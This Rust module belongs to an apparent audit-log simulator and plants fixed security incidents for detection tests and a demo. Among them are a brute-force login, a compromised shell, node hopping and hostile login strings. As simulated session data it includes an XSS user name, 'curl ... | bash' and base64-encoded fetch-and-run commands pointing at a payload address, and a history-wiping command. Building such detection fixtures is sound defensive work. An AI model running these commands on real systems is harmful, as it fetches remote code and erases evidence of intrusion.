//! Planted incidents: fixed people, addresses and times, so that detections and tests can look
//! for them and the demo can tell their story. Each returns a [`Planted`] record saying what was
//! planted where.

use super::actions::{self, Client, LoginOutcome, Shell};
use super::Sim;
use crate::event::{Event, Key, Kind, Text, Value};
use crate::timefmt::{rfc3339, utc, Nanos, Precision, MILLI, MINUTE, SECOND};

/// One planted incident, for documentation and tests.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Planted {
    pub name: &'static str,
    pub what: String,
    pub users: Vec<String>,
    pub addresses: Vec<String>,
    pub start: Nanos,
    pub end: Nanos,
}

impl Planted {
    /// A one-line summary with UTC times.
    pub fn summary(&self) -> String {
        format!(
            "{} {}–{}: {} (users: {}; addresses: {})",
            self.name,
            rfc3339(self.start, Precision::Seconds),
            rfc3339(self.end, Precision::Seconds),
            self.what,
            self.users.join(", "),
            self.addresses.join(", ")
        )
    }
}

/// The attacker of the brute-force story (a Tor exit).
pub const ATTACKER_IP: [u8; 4] = [185, 220, 101, 47];
/// Where the attacker's payload lives.
pub const PAYLOAD_IP: [u8; 4] = [45, 9, 148, 3];
/// The new address erin logs in from after failing twice.
pub const NEW_ADDRESS_IP: [u8; 4] = [103, 21, 244, 17];
/// A scanner probing the web login with markup as a user name.
pub const PROBE_IP: [u8; 4] = [45, 146, 164, 110];

/// A user name that is an HTML injection attempt.
pub const HOSTILE_USER: &str = "<img src=x onerror=alert(1)>";
/// A login that clears the screen and turns the terminal red when printed raw.
pub const ANSI_LOGIN: &str = "\u{1b}[2J\u{1b}[31mroot";

fn ip(a: [u8; 4]) -> String {
    format!("{}.{}.{}.{}", a[0], a[1], a[2], a[3])
}

/// Monday 09:41 – 14:40: markup as a user name, an ANSI escape as a login, a 300-character
/// hostname (`long_node` must be that node).
pub fn hostile_strings(sim: &mut Sim<'_>, day: (i64, u32, u32), long_node: usize) -> Planted {
    let (y, m, d) = day;
    let t1 = utc(y, m, d, 9, 41, 7) + 311 * MILLI;
    let probe: Client = (PROBE_IP, 51_832);
    let error = actions::bad_password_error(sim.version);
    actions::failed_login_as(sim, Text::Static(HOSTILE_USER), probe, t1, Text::Static(error));
    let t2 = utc(y, m, d, 11, 2, 33) + 87 * MILLI;
    let bastion = sim.org.node("bastion-01");
    let allowed = ["guest"];
    actions::node_auth_failure(
        sim,
        Text::Static("guest"),
        ANSI_LOGIN,
        bastion,
        (PROBE_IP, 40_112),
        t2,
        actions::principal_error(ANSI_LOGIN, &allowed),
    );
    let bob = sim.org.user("bob");
    let t3 = utc(y, m, d, 14, 20, 4) + 650 * MILLI;
    let home = sim.user(bob).home_ip;
    let plan = Shell {
        user: bob,
        node: long_node,
        login: "ubuntu",
        client: home,
        start: t3,
        duration: 7 * MINUTE + 12 * SECOND,
        size: (160, 48),
        joiner: None,
        crash: false,
        commands: vec![(20 * SECOND, "df -h".into()), (95 * SECOND, "sudo du -sh /var/lib/docker".into())],
        extra: Vec::new(),
    };
    let end = actions::shell(sim, plan);
    Planted {
        name: "hostile-strings",
        what: format!(
            "web login as {HOSTILE_USER:?}; SSH auth failure with login {ANSI_LOGIN:?}; bob's shell on a {}-character hostname",
            sim.node(long_node).hostname.len()
        ),
        users: vec![HOSTILE_USER.into(), "guest".into(), "bob".into()],
        addresses: vec![ip(PROBE_IP)],
        start: t1,
        end,
    }
}

/// Tuesday 14:28: grace-h opens shells on 14 different machines within about nine minutes.
pub fn node_hopping(sim: &mut Sim<'_>, day: (i64, u32, u32)) -> Planted {
    let (y, m, d) = day;
    let grace = sim.org.user("grace-h");
    let home = sim.user(grace).home_ip;
    let t0 = utc(y, m, d, 14, 28, 12) + 402 * MILLI;
    actions::web_login(sim, grace, home, t0, LoginOutcome::Success);
    let mut t = t0 + 95 * SECOND;
    let hops = 14.min(sim.org.nodes.len());
    for n in 0..hops {
        let plan = Shell {
            user: grace,
            node: n,
            login: "ubuntu",
            client: home,
            start: t,
            duration: sim.rng.range(15, 40) * SECOND,
            size: (204, 55),
            joiner: None,
            crash: false,
            commands: vec![
                (3 * SECOND, "hostname".into()),
                (6 * SECOND, "id".into()),
                (9 * SECOND, "cat /etc/passwd".into()),
            ],
            extra: Vec::new(),
        };
        actions::shell(sim, plan);
        t += sim.rng.range(30, 45) * SECOND;
    }
    Planted {
        name: "node-hopping",
        what: format!("{hops} shells on {hops} different machines within minutes"),
        users: vec!["grace-h".into()],
        addresses: vec![ip(home)],
        start: t0,
        end: t,
    }
}

/// Wednesday 02:14 UTC: 38 failed logins from one address against several users within six
/// minutes, then dave's password works; his session fetches and runs a payload (enhanced
/// `session.command`s, a denied `session.network`) and clears history. Security locks him out
/// in the morning.
pub fn brute_force(sim: &mut Sim<'_>, day: (i64, u32, u32)) -> Planted {
    let (y, m, d) = day;
    let targets = ["alice", "bob", "admin", "root", "dave", "carol@acme.io", "deploy", "test", "dave", "erin"];
    let start = utc(y, m, d, 2, 14, 5) + 120 * MILLI;
    let error = actions::bad_password_error(sim.version);
    let mut t = start;
    for i in 0..38 {
        let name = targets[i % targets.len()];
        let port = sim.ephemeral_port();
        actions::failed_login_as(sim, Text::Static(name), (ATTACKER_IP, port), t, Text::Static(error));
        t += sim.rng.range(6_000, 12_000) * MILLI;
    }
    let dave = sim.org.user("dave");
    let success = utc(y, m, d, 2, 20, 47) + 903 * MILLI;
    let t_ok = success.max(t);
    actions::web_login(sim, dave, ATTACKER_IP, t_ok, LoginOutcome::Success);

    let web = sim.org.node("web-02");
    let node_ip = sim.node(web).ip;
    let shell_start = t_ok + 83 * SECOND;
    let curl_at = 61 * SECOND;
    let b64_at = 4 * MINUTE + 2 * SECOND;
    let history_at = 9 * MINUTE + 30 * SECOND;
    let commands: Vec<(Nanos, String)> = vec![
        (5 * SECOND, "id".into()),
        (14 * SECOND, "uname -a".into()),
        (curl_at, "curl -s http://45.9.148.3/x.sh | bash".into()),
        (b64_at, "echo Y3VybCAtcyBodHRwOi8vNDUuOS4xNDguMy9rIHwgc2g= | base64 -d | sh".into()),
        (history_at, "history -c && rm -f ~/.bash_history".into()),
    ];
    let bpf = |sim: &mut Sim<'_>, kind: Kind, code: &'static str, pid: i64, program: &'static str| {
        let mut ev = sim.event(kind, 0, code);
        ev.push(Key::Pid, Value::Int(pid));
        ev.push(Key::CgroupId, Value::Int(4_294_968_064));
        ev.push(Key::Program, Value::str(program));
        ev
    };
    let mut extra: Vec<(Nanos, Event)> = Vec::new();
    let command = |mut ev: Event, ppid: i64, path: &'static str, argv: &[&'static str]| {
        ev.push(Key::Ppid, Value::Int(ppid));
        ev.push(Key::Path, Value::str(path));
        ev.push(Key::Argv, Value::list(argv.iter().copied()));
        ev.push(Key::ReturnCode, Value::Int(0));
        ev
    };
    let ev = bpf(sim, Kind::SessionCommand, "T4000I", 31_877, "bash");
    extra.push((curl_at + 40 * MILLI, command(ev, 31_402, "/usr/bin/bash", &[])));
    let mut observed = bpf(sim, Kind::SessionNetwork, "T4002I", 31_876, "curl");
    observed.push(Key::SrcAddr, Value::Ip(node_ip));
    observed.push(Key::DstAddr, Value::Ip(PAYLOAD_IP));
    observed.push(Key::DstPort, Value::Int(80));
    observed.push(Key::TcpVersion, Value::Int(4));
    extra.push((curl_at + 55 * MILLI, observed));
    let mut denied = bpf(sim, Kind::SessionNetwork, "T4002I", 31_877, "bash");
    denied.push(Key::SrcAddr, Value::Ip(node_ip));
    denied.push(Key::DstAddr, Value::Ip(PAYLOAD_IP));
    denied.push(Key::DstPort, Value::Int(4444));
    denied.push(Key::TcpVersion, Value::Int(4));
    // Operation 0 (CONNECT) is omitted as proto zero values are; action 1 = DENIED.
    denied.push(Key::Action, Value::Int(1));
    extra.push((curl_at + 1_250 * MILLI, denied));
    let ev = bpf(sim, Kind::SessionCommand, "T4000I", 32_010, "base64");
    extra.push((b64_at + 20 * MILLI, command(ev, 31_402, "/usr/bin/base64", &["-d"])));
    let ev = bpf(sim, Kind::SessionCommand, "T4000I", 32_011, "sh");
    extra.push((b64_at + 25 * MILLI, command(ev, 31_402, "/usr/bin/sh", &[])));
    let ev = bpf(sim, Kind::SessionCommand, "T4000I", 32_200, "rm");
    extra.push((history_at + 30 * MILLI, command(ev, 31_402, "/usr/bin/rm", &["-f", "/home/ubuntu/.bash_history"])));
    let plan = Shell {
        user: dave,
        node: web,
        login: "ubuntu",
        client: ATTACKER_IP,
        start: shell_start,
        duration: 11 * MINUTE + 4 * SECOND,
        size: (80, 24),
        joiner: None,
        crash: false,
        commands,
        extra,
    };
    let end = actions::shell(sim, plan);

    // Security reacts in the morning: dave is locked.
    let judy = sim.org.user("judy@acme.io");
    let lock_at = utc(y, m, d, 8, 40, 12) + 5 * MILLI;
    let mut lock = sim.event(Kind::LockCreated, lock_at, "TLK00I");
    super::user_meta(&mut lock, sim.user(judy), None);
    lock.push(Key::Name, Value::str("lock-dave-compromise"));
    lock.push(Key::Expires, Value::ZeroTime);
    lock.push(Key::Target, Value::Raw(Text::Static("{\"user\":\"dave\"}")));
    sim.emit(lock);
    Planted {
        name: "brute-force",
        what:
            "38 failed logins against 9 names in six minutes, then dave succeeds; his shell on web-02 runs curl|bash \
               (session.network to 45.9.148.3:4444 DENIED), base64 -d | sh, history -c; judy locks dave at 08:40"
                .into(),
        users: vec!["dave".into(), "judy@acme.io".into()],
        addresses: vec![ip(ATTACKER_IP), ip(PAYLOAD_IP)],
        start,
        end: lock_at,
    }
    .with_end_at_least(end)
}

impl Planted {
    fn with_end_at_least(mut self, t: Nanos) -> Self {
        self.end = self.end.max(t);
        self
    }
}

/// Thursday 10:05: erin fails twice from an address never seen before, then gets in from it.
pub fn new_address(sim: &mut Sim<'_>, day: (i64, u32, u32)) -> Planted {
    let (y, m, d) = day;
    let erin = sim.org.user("erin");
    let t0 = utc(y, m, d, 10, 5, 12) + 44 * MILLI;
    let t = actions::web_login(sim, erin, NEW_ADDRESS_IP, t0, LoginOutcome::BadPassword) + 14 * SECOND;
    let t = actions::web_login(sim, erin, NEW_ADDRESS_IP, t, LoginOutcome::BadPassword) + 19 * SECOND;
    actions::web_login(sim, erin, NEW_ADDRESS_IP, t, LoginOutcome::Success);
    let api = sim.org.node("api-01");
    let plan = Shell {
        user: erin,
        node: api,
        login: "ubuntu",
        client: NEW_ADDRESS_IP,
        start: t + 2 * MINUTE,
        duration: 17 * MINUTE + 40 * SECOND,
        size: (120, 40),
        joiner: None,
        crash: false,
        commands: vec![(30 * SECOND, "docker ps".into()), (4 * MINUTE, "docker logs --tail 100 api".into())],
        extra: Vec::new(),
    };
    let end = actions::shell(sim, plan);
    Planted {
        name: "new-address",
        what: "two wrong passwords, then success, from an address erin never used; then a shell on api-01".into(),
        users: vec!["erin".into()],
        addresses: vec![ip(NEW_ADDRESS_IP)],
        start: t0,
        end,
    }
}

/// Saturday 08:12 UTC (03:12 in New York, frank's zone): a root shell on the primary database.
pub fn root_after_hours(sim: &mut Sim<'_>, day: (i64, u32, u32)) -> Planted {
    let (y, m, d) = day;
    let frank = sim.org.user("frank@acme.io");
    let home = sim.user(frank).home_ip;
    let t0 = utc(y, m, d, 8, 12, 31) + 270 * MILLI;
    actions::web_login(sim, frank, home, t0, LoginOutcome::Success);
    let db = sim.org.node("db-primary-01");
    let plan = Shell {
        user: frank,
        node: db,
        login: "root",
        client: home,
        start: t0 + 48 * SECOND,
        duration: 25 * MINUTE + 3 * SECOND,
        size: (238, 62),
        joiner: None,
        crash: false,
        commands: vec![
            (20 * SECOND, "systemctl status postgresql".into()),
            (2 * MINUTE, "tail -n 200 /var/log/postgresql/postgresql-14-main.log".into()),
            (9 * MINUTE, "sudo -u postgres psql -c 'select pid, state, query from pg_stat_activity'".into()),
        ],
        extra: Vec::new(),
    };
    let end = actions::shell(sim, plan);
    Planted {
        name: "root-after-hours",
        what: "root shell on db-primary-01 at 03:12 local time on a Saturday".into(),
        users: vec!["frank@acme.io".into()],
        addresses: vec![ip(home)],
        start: t0,
        end,
    }
}

/// A few events of types this crate does not model, at fixed times on `day`.
pub fn unmodelled(sim: &mut Sim<'_>, day: (i64, u32, u32)) -> Planted {
    let (y, m, d) = day;
    let judy = sim.org.user("judy@acme.io");
    let start = utc(y, m, d, 16, 0, 0);
    for i in 0..actions::UNMODELLED_TYPES {
        actions::unmodelled_event_of(sim, judy, start + i as i64 * 7 * MINUTE + 1234 * MILLI, i);
    }
    Planted {
        name: "unmodelled-types",
        what: "five events of types from newer Teleport releases, kept as-is".into(),
        users: vec!["judy@acme.io".into()],
        addresses: Vec::new(),
        start,
        end: start + 29 * MINUTE,
    }
}
